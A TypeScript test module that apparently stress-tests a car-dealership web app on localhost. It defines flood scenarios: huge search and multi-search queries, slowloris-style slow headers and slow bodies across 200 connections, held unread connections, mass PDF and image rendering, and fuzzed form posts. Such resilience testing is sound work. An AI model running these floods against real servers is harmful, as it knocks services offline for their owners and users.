import { connect } from 'node:net'
import type { Attack } from './attacks.ts'
import type { Victim } from './hostile-server.ts'
import { headOf, send, type Sent, type Shot } from './send.ts'

const SEARCH = '/api/search/indexes/vehicles/search'
const JSON_TYPE = 'application/json'
const HOLD_MS = 5000
const FUZZ_RUNS = 400

const post = (path: string, value: object): Shot => {
  const bytes = Buffer.from(JSON.stringify(value))
  return { line: `POST ${path}`, type: JSON_TYPE, body: [bytes], length: bytes.byteLength }
}
const query = { indexUid: 'vehicles', limit: 1000, attributesToHighlight: ['*'], q: 'a', facets: ['*'] }
const pause = (ms: number) => new Promise((done) => setTimeout(done, ms))

/** The same request from many visitors at once. */
const atOnce = (victim: Victim, shots: readonly Shot[]) =>
  Promise.all(shots.map((shot) => send(victim, shot)))

async function vehicleSlugs(victim: Victim, count: number): Promise<string[]> {
  const socket = connect(victim.port, '127.0.0.1')
  socket.write(headOf(victim, { line: `GET ${SEARCH}?limit=${count}&attributesToRetrieve=slug` }))
  let text = ''
  for await (const piece of socket) text += String(piece)
  return [...text.matchAll(/"slug":"([^"]+)"/g)].map(([, slug = '']) => slug)
}

/** Window cards of the vehicles at these places in the stock, all requested at once. */
async function pdfs(victim: Victim, from: number, to: number): Promise<Sent[]> {
  const slugs = (await vehicleSlugs(victim, to)).slice(from)
  return atOnce(
    victim,
    slugs.map((slug) => ({ line: `GET /cars/${slug}.pdf` })),
  )
}

/** Connections that send requests and never read; returns what was answered before they were let go. */
async function holdUnread(victim: Victim, connections: number, requestsEach: number): Promise<Sent[]> {
  const path = `GET ${SEARCH}?limit=1000&q=a&attributesToHighlight=*`
  const sockets = Array.from({ length: connections }, () => {
    const socket = connect(victim.port, '127.0.0.1')
    socket.on('error', () => {})
    socket.pause()
    for (let at = 0; at < requestsEach; at += 1)
      socket.write(headOf(victim, { line: path }).replace('connection: close\r\n', ''))
    return socket
  })
  await pause(HOLD_MS)
  for (const socket of sockets) socket.destroy()
  return []
}

async function trickle(victim: Victim): Promise<Sent[]> {
  const body = [Buffer.from('n')]
  const sockets = Array.from({ length: 200 }, () => {
    const socket = connect(victim.port, '127.0.0.1')
    socket.on('error', () => {})
    socket.write(
      headOf(victim, {
        line: 'POST /contact',
        type: 'application/x-www-form-urlencoded',
        body,
        length: 9000,
      }),
    )
    return socket
  })
  const answers = sockets.map(
    (socket) => new Promise<Sent>((done) => socket.once('data', (piece: Buffer) => done(sentOf(piece)))),
  )
  const dripping = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write('n')
  }, 1000)
  const late = pause(40_000).then((): Sent => ({ status: 0, bytes: 0, ms: 0 }))
  const sent = await Promise.all(answers.map((answer) => Promise.race([answer, late])))
  clearInterval(dripping)
  for (const socket of sockets) socket.destroy()
  return sent
}

async function slowHeads(victim: Victim): Promise<Sent[]> {
  const sockets = Array.from({ length: 200 }, () => {
    const socket = connect(victim.port, '127.0.0.1')
    socket.on('error', () => {})
    socket.write(`GET / HTTP/1.1\r\nhost: ${victim.host}\r\nx-a:`)
    return socket
  })
  const late = pause(40_000).then((): Sent => ({ status: 0, bytes: 0, ms: 0 }))
  const sent = await Promise.all(
    sockets.map((socket) =>
      Promise.race([
        new Promise<Sent>((done) => socket.once('data', (piece: Buffer) => done(sentOf(piece)))),
        late,
      ]),
    ),
  )
  for (const socket of sockets) socket.destroy()
  return sent
}

function sentOf(piece: Buffer): Sent {
  return { status: Number(piece.toString('latin1', 9, 12)), bytes: piece.byteLength, ms: 0 }
}

/** Forms with bytes changed, cut and repeated at random, the same in every run. */
async function fuzz(victim: Victim): Promise<Sent[]> {
  let state = 1
  const random = (below: number) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
    return state % below
  }
  const whole =
    '--b\r\ncontent-disposition: form-data; name="name"\r\n\r\nJo\r\n--b\r\ncontent-disposition: form-data; name="photos"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n\xff\xd8\xff\r\n--b--\r\n'
  const types = [
    'multipart/form-data; boundary=b',
    'application/x-www-form-urlencoded',
    JSON_TYPE,
    'multipart/form-data; boundary="',
  ]
  const lines = [
    'POST /contact',
    'POST /trade-in',
    'POST /trade-in/valuation?t=x',
    'POST /api/leads',
    `POST ${SEARCH}`,
  ]
  const sent: Sent[] = []
  for (let run = 0; run < FUZZ_RUNS; run += 1) {
    const bytes = Buffer.from(whole, 'latin1')
    for (let change = 0; change < 1 + random(8); change += 1) bytes[random(bytes.length)] = random(256)
    const body = bytes.subarray(0, 1 + random(bytes.length))
    const line = lines[random(lines.length)] ?? ''
    sent.push(
      await send(victim, {
        line,
        type: types[random(types.length)] ?? '',
        body: [body],
        length: body.length,
      }),
    )
  }
  return sent
}

export const FLOODS: readonly Attack[] = [
  {
    name: 'search, 1,000 hits with every mark, 20 visitors at once',
    run: (victim) =>
      atOnce(
        victim,
        Array(20).fill({ line: `GET ${SEARCH}?limit=1000&q=a&attributesToHighlight=*&facets=*` }),
      ),
  },
  {
    name: 'search, tags of 90 KB',
    run: (victim) =>
      atOnce(victim, [post(SEARCH, { ...query, indexUid: undefined, highlightPreTag: '<'.repeat(90_000) })]),
  },
  {
    name: 'search, 50 queries of 1,000 hits',
    run: (victim) => atOnce(victim, [post('/api/search/multi-search', { queries: Array(50).fill(query) })]),
  },
  {
    name: 'search, 50 queries of 20 hits with all facets, 10 visitors at once',
    run: (victim) =>
      atOnce(
        victim,
        Array(10).fill(
          post('/api/search/multi-search', { queries: Array(50).fill({ ...query, limit: 20 }) }),
        ),
      ),
  },
  {
    name: 'search, filters of 10,000 characters, 10 visitors at once',
    run: (victim) =>
      atOnce(
        victim,
        Array.from({ length: 10 }, (_, at) =>
          post(SEARCH, { filter: Array.from({ length: 600 }, (__, i) => `price > ${i}${at}`).join(' OR ') }),
        ),
      ),
  },
  {
    name: 'search, 100 connections of 50 requests each that are not read',
    run: (victim) => holdUnread(victim, 100, 50),
  },
  { name: 'slow bodies: 200 forms, a byte a second', run: trickle },
  { name: 'slow headers: 200 connections that never end theirs', run: slowHeads },
  {
    name: 'a PDF, the first: starts the thread that draws, one for a process',
    run: (victim) => pdfs(victim, 120, 121),
  },
  { name: 'PDFs of 60 vehicles at once', run: (victim) => pdfs(victim, 0, 60) },
  { name: 'PDFs of 60 other vehicles at once', run: (victim) => pdfs(victim, 60, 120) },
  {
    name: 'link pictures of 60 vehicles at once',
    run: async (victim) =>
      atOnce(
        victim,
        (await vehicleSlugs(victim, 60)).map((slug) => ({ line: `GET /img/og/${slug}.jpg` })),
      ),
  },
  { name: 'fuzzed forms', run: fuzz },
]
